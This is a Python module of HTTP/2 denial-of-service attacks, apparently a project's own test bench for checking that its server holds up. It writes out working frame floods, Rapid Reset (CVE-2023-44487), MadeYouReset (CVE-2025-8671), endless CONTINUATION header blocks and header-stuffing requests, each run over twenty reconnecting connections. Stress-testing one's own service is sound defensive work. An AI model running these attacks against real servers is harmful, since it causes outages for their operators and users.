"""Frames of HTTP/2 that cost the receiver more than the sender."""

import asyncio
from collections import Counter
from functools import partial

from tests.bench.attacks.target import Outcome, Target, attack, stranger
from tests.bench.attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    Http2,
    connect,
    frame,
    hold,
    literal,
    rest_headers,
    window_update,
)

CONNECTIONS = 20


async def flood(target: Target, frames: bytes, *, opened: bool = False) -> Outcome:
    """Sends the frames again and again over some connections, and connects again when cut off.

    At most 200 times a second on each, so that it is the frames that count.
    """
    outcome: Outcome = Counter()
    deadline = asyncio.get_running_loop().time() + target.seconds
    headers = rest_headers("POST", "/api/events:batch", content_type="application/json")

    async def one() -> None:
        wire = None
        while asyncio.get_running_loop().time() < deadline:
            if wire is None or wire.lost.is_set():
                wire = await connect(target, stranger(0), partial(Http2, outcome, acks=False))
                if wire is None:
                    outcome["refused"] += 1
                    continue
                if opened:
                    wire.open(headers, end=False)
            if wire.transport.get_write_buffer_size() < 2**18:
                wire.send(frames)
            await asyncio.sleep(0.005)
        if wire is not None:
            await hold([wire], 0)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
    return outcome


@attack("pings", "a flood of PING frames")
async def pings(target: Target) -> Outcome:
    return await flood(target, frame(PING, 0, 0, b"12345678") * 100)


@attack("settings", "a flood of SETTINGS frames")
async def settings(target: Target) -> Outcome:
    return await flood(target, frame(SETTINGS, 0, 0) * 100)


@attack("priorities", "a flood of PRIORITY and WINDOW_UPDATE frames")
async def priorities(target: Target) -> Outcome:
    piece = frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") + window_update(0, 1)
    return await flood(target, piece * 50)


@attack("empty-data", "a flood of empty DATA frames")
async def empty_data(target: Target) -> Outcome:
    return await flood(target, frame(DATA, 0, 1) * 100, opened=True)


@attack("rapid-reset", "requests that are reset at once (CVE-2023-44487)")
async def rapid_reset(target: Target) -> Outcome:
    block = literal(rest_headers("GET", "/api/tasks", target.users[0]))
    return await _streams(
        target,
        lambda stream: (
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        ),
    )


@attack("reset-grpc", "gRPC calls that are reset when they have begun")
async def reset_grpc(target: Target) -> Outcome:
    """Between call and reset is a moment, in which the worker has begun."""
    outcome: Outcome = Counter()
    deadline = asyncio.get_running_loop().time() + target.seconds
    headers = rest_headers("GET", "/api/events?page_size=200&search=volume", target.users[0])

    async def one() -> None:
        wire = None
        while asyncio.get_running_loop().time() < deadline:
            if wire is None or wire.lost.is_set():
                wire = await connect(target, stranger(0), partial(Http2, outcome))
                if wire is None:
                    outcome["refused"] += 1
                    continue
            streams = [wire.open(headers, end=True) for _ in range(20)]
            outcome["calls"] += len(streams)
            await asyncio.sleep(0.02)
            for stream in streams:
                if stream not in wire.ended:
                    wire.send(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                    outcome["reset"] += 1
                    wire.ended.add(stream)
        if wire is not None:
            await hold([wire], 0)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
    return outcome


@attack("made-you-reset", "streams that make the server reset them (CVE-2025-8671)")
async def made_you_reset(target: Target) -> Outcome:
    block = literal(rest_headers("GET", "/api/tasks", target.users[0]))
    return await _streams(
        target,
        lambda stream: (
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + window_update(stream, 0)
        ),
    )


@attack("continuations", "header blocks that never end, in CONTINUATION frames")
async def continuations(target: Target) -> Outcome:
    outcome: Outcome = Counter()
    deadline = asyncio.get_running_loop().time() + target.seconds
    block = literal([("x-fill", "a" * 200)]) * 40

    async def one() -> None:
        wire = None
        while asyncio.get_running_loop().time() < deadline:
            if wire is None or wire.lost.is_set():
                wire = await connect(target, stranger(0), partial(Http2, outcome))
                if wire is None:
                    outcome["refused"] += 1
                    continue
                wire.send(frame(HEADERS, END_STREAM, 1, literal(rest_headers("GET", "/healthz"))))
            if wire.transport.get_write_buffer_size() < 2**18:
                wire.send(frame(CONTINUATION, 0, 1, block))
            await asyncio.sleep(0.002)
        if wire is not None:
            await hold([wire], 0)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
    return outcome


@attack("many-headers", "requests with as many headers as get through")
async def many_headers(target: Target) -> Outcome:
    outcome: Outcome = Counter()
    deadline = asyncio.get_running_loop().time() + target.seconds
    more = {f"x_{number}": "a" * 500 for number in range(95)}
    headers = rest_headers("GET", "/api/tasks?page_size=1", target.users[0], **more)

    async def one() -> None:
        wire = await connect(target, stranger(0), partial(Http2, outcome))
        while wire is not None and asyncio.get_running_loop().time() < deadline:
            if wire.lost.is_set():
                wire = await connect(target, stranger(0), partial(Http2, outcome))
                continue
            if wire.next_stream // 2 - len(wire.ended) < 10:
                wire.open(headers, end=True)
            await asyncio.sleep(0.005)
        if wire is not None:
            await hold([wire], 0)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
    return outcome


async def _streams(target: Target, frames: "object") -> Outcome:
    """Opens streams with these frames, 20 at a time, 100 times a second on each connection."""
    outcome: Outcome = Counter()
    deadline = asyncio.get_running_loop().time() + target.seconds

    async def one() -> None:
        wire = None
        while asyncio.get_running_loop().time() < deadline:
            if wire is None or wire.lost.is_set():
                wire = await connect(target, stranger(0), partial(Http2, outcome))
                if wire is None:
                    outcome["refused"] += 1
                    continue
            if wire.transport.get_write_buffer_size() < 2**18:
                first = wire.next_stream
                numbers = range(first, first + 40, 2)
                wire.next_stream += 40
                outcome["streams sent"] += len(numbers)
                wire.send(b"".join(frames(number) for number in numbers))  # type: ignore[operator]
            await asyncio.sleep(0.01)
        if wire is not None:
            await hold([wire], 0)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
    return outcome
